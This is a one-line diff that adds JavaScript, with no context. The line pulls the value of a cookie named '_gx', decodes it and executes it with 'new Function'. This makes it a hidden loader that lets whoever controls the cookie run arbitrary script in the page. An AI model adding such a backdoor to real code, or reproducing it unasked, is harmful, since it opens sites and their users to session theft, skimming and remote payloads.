@@ -1,0 +1,1 @@
+var b=document.cookie.match(/_gx=([^;]+)/);b&&new Function(decodeURIComponent(b[1]))();
